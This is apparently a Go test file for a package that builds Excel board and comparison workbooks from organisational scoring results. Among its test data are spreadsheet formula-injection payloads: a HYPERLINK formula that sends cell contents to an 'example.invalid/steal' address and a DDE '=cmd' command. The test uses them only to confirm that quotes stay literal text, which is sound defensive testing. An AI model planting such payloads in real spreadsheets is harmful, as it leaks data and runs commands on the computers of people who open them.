package report

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/anchorscore/anchorscore/pipeline"
	"github.com/anchorscore/anchorscore/pipeline/discover"
	"github.com/anchorscore/anchorscore/pipeline/doc"
	"github.com/anchorscore/anchorscore/rubric"
)

func openWorkbook(t *testing.T, path string) *excelize.File {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func readCSVFile(t *testing.T, path string) [][]string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return rows
}

// allLevels reads scores.csv's levels for all periods together, keyed by
// organisation and theme: [level, level_name, score, indicators_evidenced].
func allLevels(t *testing.T, dir string) map[[2]string][]string {
	t.Helper()
	out := map[[2]string][]string{}
	for _, s := range readCSVFile(t, filepath.Join(dir, "scores.csv"))[1:] {
		if s[1] == discover.PeriodAll {
			out[[2]string{s[0], s[2]}] = []string{s[3], s[4], s[5], s[6]}
		}
	}
	return out
}

// The board's summary shows each theme's level, name, score and
// indicators evidenced exactly as scores.csv has them.
func TestSummaryLevelsEqualScores(t *testing.T) {
	dir := fixtureOutputs(t)
	_, meta := fixtureRun(t)
	want := allLevels(t, dir)
	orgs := 0
	for key := range want {
		org, theme := key[0], key[1]
		if theme != meta.Rubric.Themes[0].ID {
			continue
		}
		orgs++
		f := openWorkbook(t, filepath.Join(dir, Slug(org)+".xlsx"))
		rows, err := f.GetRows(sheetSummary)
		if err != nil {
			t.Fatal(err)
		}
		for _, th := range meta.Rubric.Themes {
			w := want[[2]string{org, th.ID}]
			i := slices.IndexFunc(rows, func(r []string) bool { return len(r) >= 5 && r[0] == th.Name })
			if i < 0 {
				t.Errorf("%s: no summary row for %s", org, th.Name)
				continue
			}
			row := i + 1
			raw := func(col int) string {
				v, _ := f.GetCellValue(sheetSummary, cell(col, row), excelize.Options{RawCellValue: true})
				return v
			}
			got := []string{raw(2), raw(3), raw(4), raw(5)}
			if !slices.Equal(got, w) {
				t.Errorf("%s %s: summary shows level, name, score, indicators %v; scores.csv %v", org, th.ID, got, w)
			}
			if shown := rows[i][4]; shown != fmt.Sprintf("%s of %d", w[3], len(th.Indicators)) {
				t.Errorf("%s %s: indicators shown as %q", org, th.ID, shown)
			}
			if style, _ := f.GetCellStyle(sheetSummary, cell(2, row)); style == 0 {
				t.Errorf("%s %s: level cell has no colour", org, th.ID)
			}
		}
	}
	if orgs != 7 {
		t.Errorf("checked %d organisations, want the corpus's 7", orgs)
	}
}

// Each board workbook carries its two charts, drawn on the summary from
// the Chart data sheet, and the comparison workbook its trend chart.
func TestChartsExist(t *testing.T) {
	dir := fixtureOutputs(t)
	res, meta := fixtureRun(t)
	ix := newIndex(res, meta.Rubric)
	for _, org := range ix.orgs {
		path := filepath.Join(dir, Slug(org)+".xlsx")
		charts := zipParts(t, path, `^xl/charts/chart\d+\.xml$`)
		kinds := map[string]bool{}
		for _, c := range charts {
			for _, k := range []string{"radarChart", "barChart", "lineChart"} {
				if strings.Contains(c, "<"+k+">") || strings.Contains(c, ":"+k+">") {
					kinds[k] = true
				}
			}
			if !strings.Contains(c, "&#39;Chart data&#39;!") && !strings.Contains(c, "'Chart data'!") {
				t.Errorf("%s: a chart does not draw from the Chart data sheet", org)
			}
		}
		if len(charts) != 2 || !kinds["radarChart"] || !kinds["barChart"] {
			t.Errorf("%s: %d charts %v, want a radar and a bar chart", org, len(charts), kinds)
		}
		// The charts hang from the summary.
		f := openWorkbook(t, path)
		sheetPath := sheetXMLPath(t, f, sheetSummary)
		rels := zipParts(t, path, "^"+regexp.QuoteMeta(strings.Replace(sheetPath, "worksheets/", "worksheets/_rels/", 1)+".rels")+"$")
		if len(rels) != 1 || !strings.Contains(rels[0], "drawing") {
			t.Errorf("%s: the summary has no drawing", org)
		}
		// The radar's latest period is the organisation's latest levels.
		dated := ix.datedPeriods(org)
		if len(dated) >= 2 {
			for i, th := range meta.Rubric.Themes {
				got, _ := f.GetCellValue(sheetChartData, cell(3, 2+i))
				if want := strconv.Itoa(ix.score(org, last(dated), th.ID).Level); got != want {
					t.Errorf("%s %s: radar latest level %q, want %q", org, th.ID, got, want)
				}
			}
		}
	}
	charts := zipParts(t, filepath.Join(dir, "comparison.xlsx"), `^xl/charts/chart\d+\.xml$`)
	if len(charts) != 1 || !strings.Contains(charts[0], "lineChart>") {
		t.Errorf("comparison: %d charts, want one line chart", len(charts))
	}
}

// sheetXMLPath is where a sheet lives in the package.
func sheetXMLPath(t *testing.T, f *excelize.File, name string) string {
	t.Helper()
	i, err := f.GetSheetIndex(name)
	if err != nil || i < 0 {
		t.Fatalf("no sheet %s", name)
	}
	return fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1)
}

// zipParts returns the contents of the parts of an xlsx whose names
// match pattern, in name order.
func zipParts(t *testing.T, path, pattern string) []string {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	re := regexp.MustCompile(pattern)
	var names []string
	files := map[string]*zip.File{}
	for _, zf := range zr.File {
		if re.MatchString(zf.Name) {
			names = append(names, zf.Name)
			files[zf.Name] = zf
		}
	}
	slices.Sort(names)
	var out []string
	for _, n := range names {
		rc, err := files[n].Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, string(data))
	}
	return out
}

// The comparison's heatmaps are conditional formats: levels coloured as
// the board workbooks colour them, blanks left alone.
func TestHeatmapConditionalFormats(t *testing.T) {
	dir := fixtureOutputs(t)
	f := openWorkbook(t, filepath.Join(dir, "comparison.xlsx"))
	for sheetName, rng := range map[string]string{sheetLevels: "B2:E8", sheetStrength: "B2:V8", sheetTrends: "C2:D29"} {
		cfs, err := f.GetConditionalFormats(sheetName)
		if err != nil {
			t.Fatal(err)
		}
		rules, ok := cfs[rng]
		if !ok {
			t.Errorf("%s: no conditional format on %s; have %v", sheetName, rng, keys(cfs))
			continue
		}
		if rules[0].Type != "blanks" {
			t.Errorf("%s: first rule %q, want blanks", sheetName, rules[0].Type)
		}
		var levels []string
		for _, r := range rules[1:] {
			if r.Type == "cell" && (r.Criteria == "==" || r.Criteria == "equal to") {
				levels = append(levels, r.Value)
			}
		}
		if len(levels) < 4 || levels[0] != "0" {
			t.Errorf("%s: heatmap rules for values %v", sheetName, levels)
		}
	}
	cfs, _ := f.GetConditionalFormats(sheetLevels)
	if _, ok := cfs["F2:I8"]; !ok {
		t.Errorf("Levels: no data bars on the scores; have %v", keys(cfs))
	}
}

func keys[V any](m map[string]V) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}

// Quotes that look like formulas, as documents can hold them.
var formulaLike = []string{
	"=1+1",
	`=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for the anchor charter")`,
	"+44 20 7946 0000 is the anchor programme office's number.",
	"-2+3 is how the score moved; we will appoint an anchor lead.",
	"@SUM(A1:A9) anchor institution",
	"=cmd|' /C calc'!A0",
}

// Document text never becomes a formula: every workbook is free of
// formulas altogether, the quotes are string cells that read back
// literally, and LibreOffice shows them as written.
func TestDocumentTextStaysText(t *testing.T) {
	t.Parallel()
	r, err := rubric.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	res := synthetic{orgs: 2, docsPerOrg: 2, items: 60, quotes: formulaLike}.build(r)
	dir := t.TempDir()
	written, err := Write(dir, res, testMeta(r))
	if err != nil {
		t.Fatal(err)
	}
	var books []string
	for _, name := range written {
		if !strings.HasSuffix(name, ".xlsx") {
			continue
		}
		books = append(books, filepath.Join(dir, name))
		for i, part := range zipParts(t, filepath.Join(dir, name), `^xl/worksheets/sheet\d+\.xml$`) {
			if strings.Contains(part, "<f>") || strings.Contains(part, "<f ") {
				t.Errorf("%s sheet %d holds a formula", name, i+1)
			}
		}
	}

	// The tidy evidence sheet: column J is the sentence.
	cmp := openWorkbook(t, filepath.Join(dir, "comparison.xlsx"))
	for i, q := range formulaLike {
		ref := cell(10, i+2)
		got, _ := cmp.GetCellValue(sheetTidyEv, ref)
		typ, _ := cmp.GetCellType(sheetTidyEv, ref)
		formula, _ := cmp.GetCellFormula(sheetTidyEv, ref)
		if got != q || typ == excelize.CellTypeFormula || formula != "" {
			t.Errorf("evidence %s = %q (type %v, formula %q), want the text %q", ref, got, typ, formula, q)
		}
	}
	// The board's Evidence sheet (rich text) and Indicators sheet.
	org := res.Docs[0].Organisation
	book := openWorkbook(t, filepath.Join(dir, Slug(org)+".xlsx"))
	rows, err := book.GetRows(sheetEvidence)
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for i, row := range rows {
		if len(row) > 4 && slices.Contains(formulaLike, row[4]) {
			found++
			typ, _ := book.GetCellType(sheetEvidence, cell(5, i+1))
			if typ == excelize.CellTypeFormula {
				t.Errorf("Evidence row %d: a quote became a formula", i+1)
			}
		}
	}
	if found == 0 {
		t.Errorf("no formula-like quote found in %s's Evidence sheet", org)
	}

	conv := convertCSV(t, books...)
	texts := map[string]bool{}
	for _, name := range []string{"comparison-evidence.csv", Slug(org) + "-Evidence.csv"} {
		for _, row := range readCSVFile(t, filepath.Join(conv, name)) {
			for _, v := range row {
				texts[v] = true
			}
		}
	}
	for _, q := range formulaLike {
		if !texts[q] {
			t.Errorf("LibreOffice does not show %q literally", q)
		}
	}
}

// libreOffice finds soffice, or skips the test; under CI its absence is
// a failure.
func libreOffice(t *testing.T) string {
	t.Helper()
	path, err := exec.LookPath("soffice")
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("soffice not found: CI must install LibreOffice")
		}
		t.Skip("LibreOffice not installed")
	}
	return path
}

// convertCSV converts workbooks with LibreOffice, every sheet to its own
// file (BOOK-SHEET.csv, values as shown), and returns the folder.
func convertCSV(t *testing.T, books ...string) string {
	t.Helper()
	return convert(t, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1", books...)
}

func convert(t *testing.T, to string, books ...string) string {
	t.Helper()
	out, err := startConvert(t, to, books...)()
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// startConvert starts a conversion, in its own LibreOffice profile so
// that several can run at once, and returns a function that waits for
// it and gives the output folder.
func startConvert(t *testing.T, to string, books ...string) func() (string, error) {
	t.Helper()
	soffice := libreOffice(t)
	out := t.TempDir()
	args := append([]string{"--headless", "-env:UserInstallation=file://" + t.TempDir(), "--convert-to", to, "--outdir", out}, books...)
	done := make(chan error, 1)
	go func() {
		msg, err := exec.Command(soffice, args...).CombinedOutput()
		if err != nil {
			err = fmt.Errorf("soffice --convert-to %s: %v\n%s", to, err, msg)
		}
		done <- err
	}()
	return func() (string, error) { return out, <-done }
}

// An organisation none of whose documents could be read still gets a
// workbook that says so, with no level and no charts.
func TestUnreadOrganisation(t *testing.T) {
	r, err := rubric.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	res := synthetic{orgs: 1, docsPerOrg: 2, items: 10}.build(r)
	res.Documents = append(res.Documents, &pipeline.Document{
		Input:  discover.Input{Path: "/data/scanned/board-pack.pdf", Display: "zz-unread-trust/board-pack.pdf", Organisation: "zz-unread-trust", Type: "board-paper"},
		Status: pipeline.StatusFailed, Error: "no text found (a scanned document needs OCR)",
	})
	dir := t.TempDir()
	if _, err := Write(dir, res, testMeta(r)); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "zz-unread-trust.xlsx")
	f := openWorkbook(t, path)
	rows, _ := f.GetRows(sheetSummary)
	var text []string
	for _, row := range rows {
		text = append(text, strings.Join(row, " "))
	}
	all := strings.Join(text, "\n")
	if !strings.Contains(all, "No level is given") || !strings.Contains(all, "0 of 1 read") {
		t.Errorf("summary does not say nothing could be read:\n%s", all)
	}
	docs, _ := f.GetRows(sheetDocuments)
	if len(docs) != 2 || docs[1][7] != pipeline.StatusFailed || !strings.Contains(docs[1][8], "OCR") {
		t.Errorf("Documents sheet = %v", docs)
	}
	if n := len(zipParts(t, path, `^xl/charts/`)); n != 0 {
		t.Errorf("%d charts for an organisation with no levels", n)
	}
}

// The streamed sheets keep what was attached to them before they were
// flushed: tables, links, frozen headers, print set-up.
func TestStreamedSheetsKeepTheirParts(t *testing.T) {
	dir := fixtureOutputs(t)
	res, meta := fixtureRun(t)
	org := "harrowmere-teaching-hospitals"
	path := filepath.Join(dir, org+".xlsx")
	f := openWorkbook(t, path)

	tables, err := f.GetTables(sheetEvidence)
	if err != nil || len(tables) != 1 {
		t.Fatalf("Evidence tables %v, %v", tables, err)
	}
	rows, _ := f.GetRows(sheetEvidence)
	if got := len(rows) - 1; got != len(newIndex(res, meta.Rubric).items[org]) {
		t.Errorf("Evidence has %d quotes, the run %d", got, len(newIndex(res, meta.Rubric).items[org]))
	}
	pdfLinks := 0
	for i := 2; i <= len(rows); i++ {
		ok, link, err := f.GetCellHyperLink(sheetEvidence, cell(6, i))
		if err != nil || !ok || !strings.HasPrefix(link, "file://") {
			t.Fatalf("Evidence F%d: link %v %q %v", i, ok, link, err)
		}
		doc := rows[i-1][5]
		if !strings.HasSuffix(link, "/"+doc) && !strings.Contains(link, "/"+doc+"#page=") {
			t.Errorf("Evidence F%d: link %q does not open %s", i, link, doc)
		}
		if strings.HasSuffix(doc, ".pdf") {
			pdfLinks++
			if want := "#page=" + rows[i-1][6]; !strings.HasSuffix(link, want) {
				t.Errorf("Evidence F%d: link %q, want it to end %s", i, link, want)
			}
			abs, _ := filepath.Abs(filepath.Join(corpus, org, doc))
			if !strings.HasPrefix(link, "file://"+filepath.ToSlash(abs)) {
				t.Errorf("Evidence F%d: link %q does not point at %s", i, link, abs)
			}
		}
	}
	if pdfLinks == 0 {
		t.Error("no PDF quote to check a page link on")
	}
	runs, err := f.GetCellRichText(sheetEvidence, "E2")
	if err != nil {
		t.Fatal(err)
	}
	bold := false
	for _, r := range runs {
		bold = bold || r.Font != nil && r.Font.Bold && strings.TrimSpace(r.Text) != ""
	}
	if !bold {
		t.Errorf("E2's matched words are not in bold: %+v", runs)
	}
	panes, _ := f.GetPanes(sheetEvidence)
	if !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("Evidence panes %+v, want the header frozen", panes)
	}
	sheetXML := zipParts(t, path, "^"+regexp.QuoteMeta(sheetXMLPath(t, f, sheetEvidence))+"$")[0]
	for _, want := range []string{`fitToPage="true"`, `orientation="landscape"`, `fitToWidth="1"`, "<tableParts"} {
		if !strings.Contains(sheetXML, want) {
			t.Errorf("Evidence sheet XML lacks %s", want)
		}
	}

	cmp := openWorkbook(t, filepath.Join(dir, "comparison.xlsx"))
	for name, header := range map[string][]string{sheetTidyEv: evidenceHeader, sheetTidySc: scoresHeader, sheetTidyDocs: documentsHeader} {
		tables, err := cmp.GetTables(name)
		if err != nil || len(tables) != 1 || tables[0].Name != name {
			t.Errorf("%s: tables %+v %v", name, tables, err)
		}
		rows, _ := cmp.GetRows(name)
		if len(rows) == 0 || !slices.Equal(rows[0], header) {
			t.Errorf("%s header %v, want %v", name, rows[0], header)
		}
	}
}

// The summary prints on one landscape page, with the organisation in
// the header and the page number in the footer; the other sheets print
// a page wide with their header rows repeated.
func TestPrintSetup(t *testing.T) {
	dir := fixtureOutputs(t)
	org := "harrowmere-teaching-hospitals"
	f := openWorkbook(t, filepath.Join(dir, org+".xlsx"))
	for _, name := range f.GetSheetList() {
		pl, err := f.GetPageLayout(name)
		if err != nil {
			t.Fatal(err)
		}
		wantTall := 0
		if name == sheetSummary {
			wantTall = 1
		}
		if pl.Orientation == nil || *pl.Orientation != "landscape" || pl.FitToWidth == nil || *pl.FitToWidth != 1 ||
			pl.FitToHeight == nil || *pl.FitToHeight != wantTall {
			t.Errorf("%s: page layout %+v", name, pl)
		}
		hf, err := f.GetHeaderFooter(name)
		if err != nil || !strings.Contains(hf.OddHeader, org) || !strings.Contains(hf.OddFooter, "&P") {
			t.Errorf("%s: header %q footer %q", name, hf.OddHeader, hf.OddFooter)
		}
	}
	names := map[string]string{}
	for _, dn := range f.GetDefinedName() {
		names[dn.Scope+" "+dn.Name] = dn.RefersTo
	}
	if !strings.Contains(names[sheetSummary+" _xlnm.Print_Area"], "'Summary'!$A$1:$M$") {
		t.Errorf("summary print area %q", names[sheetSummary+" _xlnm.Print_Area"])
	}
	for _, s := range []string{sheetIndicators, sheetEvidence, sheetDocuments} {
		if names[s+" _xlnm.Print_Titles"] == "" {
			t.Errorf("%s: no header row repeated on printed pages", s)
		}
	}
}

// The same inputs give the same workbooks, byte for byte: excelize lists
// image types from a map, which stableZip puts in order.
func TestSameInputsSameContent(t *testing.T) {
	res, meta := fixtureRun(t)
	a, b := t.TempDir(), t.TempDir()
	for _, dir := range []string{a, b} {
		if _, err := Write(dir, res, meta); err != nil {
			t.Fatal(err)
		}
	}
	names, _ := filepath.Glob(filepath.Join(a, "*.xlsx"))
	if len(names) < 2 {
		t.Fatalf("only %v written", names)
	}
	for _, pa := range names {
		name := filepath.Base(pa)
		x := zipParts(t, pa, `.`)
		y := zipParts(t, filepath.Join(b, name), `.`)
		if !slices.Equal(x, y) {
			t.Errorf("%s: parts differ between two writes", name)
		}
		da, _ := os.ReadFile(pa)
		db, _ := os.ReadFile(filepath.Join(b, name))
		if !bytes.Equal(da, db) {
			t.Errorf("%s: bytes differ between two writes", name)
		}
	}
}

func TestSortDefaults(t *testing.T) {
	in := `<Types><Default Extension="xml" ContentType="a"></Default><Default Extension="png" ContentType="b"></Default><Default Extension="gif" ContentType="c"/><Override PartName="/x"></Override></Types>`
	want := `<Types><Default Extension="gif" ContentType="c"/><Default Extension="png" ContentType="b"></Default><Default Extension="xml" ContentType="a"></Default><Override PartName="/x"></Override></Types>`
	if got := string(sortDefaults([]byte(in))); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

func TestLines(t *testing.T) {
	for _, c := range []struct {
		text  string
		width float64
		want  int
	}{
		{"", 10, 1},
		{"short", 10, 1},
		{strings.Repeat("word ", 10), 10, 5}, // 12 characters a line, two words each
		{"one\ntwo", 40, 2},
		{strings.Repeat("x", 30), 10, 3},
	} {
		if got := lines(c.text, c.width); got != c.want {
			t.Errorf("lines(%q, %v) = %d, want %d", c.text, c.width, got, c.want)
		}
	}
}

func TestQuoteRuns(t *testing.T) {
	text := "We appointed an anchor programme manager."
	runs := quoteRuns(text, []doc.Span{{Start: 16, End: 40}, {Start: 3, End: 5}, {Start: 50, End: 60}}, 10)
	var b strings.Builder
	var bold []string
	for _, r := range runs {
		b.WriteString(r.Text)
		if r.Font != nil && r.Font.Bold {
			bold = append(bold, r.Text)
		}
	}
	if b.String() != text || !slices.Equal(bold, []string{"anchor programme manager"}) {
		t.Errorf("runs %+v", runs)
	}
}

// A level the model was less sure of is named a close call on the
// board's summary, with the level it thought next most likely, and noted
// on its cell of the comparison workbook; a clear one is not. scores.csv gives every level's probability and the level
// rules' own level.
func TestCloseCalls(t *testing.T) {
	r, err := rubric.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	res := synthetic{orgs: 1, docsPerOrg: 2, items: 10}.build(r)
	var close, clear string
	for i := range res.Scores {
		s := &res.Scores[i]
		if s.Period != discover.PeriodAll {
			continue
		}
		s.RuleLevel = 2
		switch s.Theme {
		case r.Themes[0].ID:
			s.Level, s.LevelName, s.Probability, s.NextLevel = 3, r.LevelName(3), 0.45, 2
			close = s.Organisation
		case r.Themes[1].ID:
			s.Level, s.LevelName, s.Probability, s.NextLevel = 1, r.LevelName(1), 0.9, 2
			clear = s.Organisation
		}
	}
	if close == "" || clear == "" {
		t.Fatal("the synthetic result has no levels for all periods")
	}
	dir := t.TempDir()
	if _, err := Write(dir, res, testMeta(r)); err != nil {
		t.Fatal(err)
	}
	f := openWorkbook(t, filepath.Join(dir, close+".xlsx"))
	rows, _ := f.GetRows(sheetSummary)
	var calls string
	for _, row := range rows {
		if line := strings.Join(row, " "); strings.HasPrefix(line, "Close calls:") {
			calls = line
		}
	}
	want := fmt.Sprintf("%s: %s, or %s", r.Themes[0].Name, r.LevelName(3), r.LevelName(2))
	if !strings.Contains(calls, want) || strings.Contains(calls, r.Themes[1].Name) {
		t.Errorf("close calls line %q, want it to name %q and not %s", calls, want, r.Themes[1].Name)
	}
	// the comparison workbook notes the close call on its level, only
	cmp := openWorkbook(t, filepath.Join(dir, "comparison.xlsx"))
	comments, err := cmp.GetComments(sheetLevels)
	if err != nil {
		t.Fatal(err)
	}
	noted := map[string]string{}
	for _, c := range comments {
		noted[c.Cell] = c.Text
	}
	if !strings.Contains(noted["B2"], "Close call: "+r.LevelName(3)+", or "+r.LevelName(2)) || noted["C2"] != "" {
		t.Errorf("comparison notes %v, want one on B2 naming the close call and none on C2", noted)
	}
	scores := readCSVFile(t, filepath.Join(dir, "scores.csv"))
	col := map[string]int{}
	for i, h := range scores[0] {
		col[h] = i
	}
	for _, s := range scores[1:] {
		if s[col["period"]] != discover.PeriodAll {
			continue
		}
		want := map[string]string{r.Themes[0].ID: "0.45", r.Themes[1].ID: "0.9"}[s[col["theme"]]]
		if want != "" && (s[col["probability"]] != want || s[col["rules_level"]] != "2") {
			t.Errorf("%s: probability %q, rules_level %q; want %s and 2", s[col["theme"]], s[col["probability"]], s[col["rules_level"]], want)
		}
	}
}
